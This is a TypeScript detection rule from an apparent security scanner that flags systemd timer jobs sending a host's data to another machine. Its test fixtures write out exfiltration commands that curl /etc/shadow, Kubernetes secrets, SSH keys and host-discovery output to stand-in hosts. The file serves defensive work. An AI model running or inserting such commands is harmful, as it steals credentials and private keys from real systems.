import type { ClosureCommand } from "../inventory/closure.ts";
import type { Behaviour } from "../programs/program.ts";
import { shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { accuse, baseName, behavioursOfKind, isPackagedPlace } from "./subject.ts";

/** Files or facts of this host are sent to another machine. */
export const sendsDataOut: ActivationRule = {
  id: "sends-data-out",
  subject: "activation",
  title: "Sends this host's data to another machine",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "execution",
  depth: "regular",
  techniques: ["T1041", "T1048", "T1053.006"],
  controls: ["AC-4", "SC-7", "SI-4"],
  why: "Passwords, keys or the description of a host that leave it by a timer are collection. The 2018 AUR case posted just such facts to a paste site.",
  benign: [
    "Backups by restic, borg, rclone, rsync (not accused)",
    "Health pings without a body of their own (not accused)",
  ],
  clears: "send backups with a backup program",
  references: ["https://attack.mitre.org/techniques/T1041/"],

  *check(activation, inventory) {
    for (const { behaviour, command } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
      const isOrdinary =
        (behaviour.confidence === "low" || isOrdinaryWay(behaviour)) &&
        !(behaviour.detail.sent === "host-facts" && describesHost(command)) &&
        !carriesSecrets(behaviour);
      if (isOrdinary || isPackagedPlace(behaviour.span.path, activation, inventory)) continue;
      yield accuse(behaviour, inventory);
    }
  },

  examples: () => ({
    fires: [
      timed(
        "ExecStart=/bin/sh -c 'kubectl get secrets -A -o json | gzip | curl -s -d @- https://c.example.test/'",
      ),
      timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
      timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
      timed("ExecStart=/usr/bin/curl -F f=@/srv/data http://192.0.2.7/"),
      timed("ExecStart=/bin/sh -c 'curl -d \"$$(ps aux)\" https://c.example.test/'"),
      timed(
        "ExecStart=/bin/sh -c 'tar czf /srv/x.tgz /root/.ssh; curl -F f=@/srv/x.tgz https://api.example.test/'",
      ),
      timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | curl -F f=@- http://192.0.2.7/'"),
      timed("ExecStart=/bin/sh -c 'k=$$(cat /srv/x); curl -d \"k=$$k\" http://192.0.2.7/'"),
    ],
    quiet: [
      timed(
        "ExecStart=/bin/sh -c 'ip=$$(ip -o addr show | head -n 1 | cut -d/ -f1); curl -d \"ip=$$ip\" https://d.example.test/'",
      ),
      timed(
        "ExecStart=/bin/sh -c 'curl -d \"t=$$(cat /sys/class/thermal/thermal_zone0/temp)\" http://192.0.2.7/'",
      ),
      timed("ExecStart=/bin/sh -c 'ps aux | curl -fsS --data-binary @- https://influx.example.test/write'"),
      timed(
        "ExecStart=/bin/sh -c 'id; uname -a; ps aux; df -P | curl -fsS --data-binary @- https://influx.example.test/write'",
      ),
      timed("ExecStart=/usr/bin/curl -sT /var/backups/db.gz -u bkp: https://cloud.example.test/dav/"),
      timed("ExecStart=/usr/bin/curl --data-binary @/srv/metrics http://127.0.0.1:8086/write"),
      timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | ssh backup@192.0.2.7 dd of=x'"),
      timed("ExecStart=/bin/sh -c 'df -P | curl -fsS --data-binary @- https://influx.example.test/write'"),
      timed("ExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1"),
      timed("ExecStart=/usr/bin/restic backup /srv"),
      shipped("vendor", "ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
      timed("ExecStart=/usr/bin/scp /srv/x backup@192.0.2.7:/srv/"),
      timed("ExecStart=/usr/bin/scp /etc/shadow backup@192.0.2.7:/srv/"),
      timed("ExecStart=/bin/sh -c 'tar c /root/.ssh | ssh backup@192.0.2.7 dd of=x'"),
      timed("ExecStart=/usr/bin/rclone copy /srv remote:x"),
      timed("ExecStart=/bin/sh -c 'mail -s x root@example.test < /etc/shadow'"),
      timed("ExecStart=/bin/sh -c 'ssh backup@192.0.2.7 dd of=x < /root/.ssh/id_rsa'"),
      timed("ExecStart=/usr/bin/aws s3 cp /etc/shadow s3://backup/"),
    ],
  }),
};

/** Keys and passwords in a stream to the web; backups of them go over ssh or through a backup program. */
function carriesSecrets({ detail: { sent, program = "" }, says }: Behaviour): boolean {
  return (
    sent === "secrets" &&
    !/^(ssh|autossh|scp|sftp|rsync|rclone|mail|mailx|sendmail)$/.test(program) &&
    !COPIES.test(says)
  );
}

const COPIES = / mails | copies files to /;

/** Mail, copies over ssh, what a pipe computed, and files to a host with a name: how backups, metrics and logs travel. */
function isOrdinaryWay({ says, detail: { host = "" } }: Behaviour): boolean {
  if (/ mails | copies files to | the content of - /.test(says)) return true;
  return says.includes(" the content of ") && !/^(?!127\.)\d+(\.\d+){3}$/.test(host);
}

/** Programs that tell about a host and its people (T1082, T1033, T1057, T1518). */
const DISCOVERY =
  /^(id|whoami|uname|hostname|hostnamectl|who|w|last|lscpu|lsblk|ip|ifconfig|ss|netstat|ps|pacman|dpkg|dpkg-query|rpm|systemctl|getent|env|printenv|crontab|lsmod|mount)$/;

/** Three such programs in one job are a description of the host. */
function describesHost({ followed }: ClosureCommand): boolean {
  const used = new Set(followed.reached.map(({ name }) => baseName(name)));
  return [...used].filter((name) => DISCOVERY.test(name)).length >= 3;
}
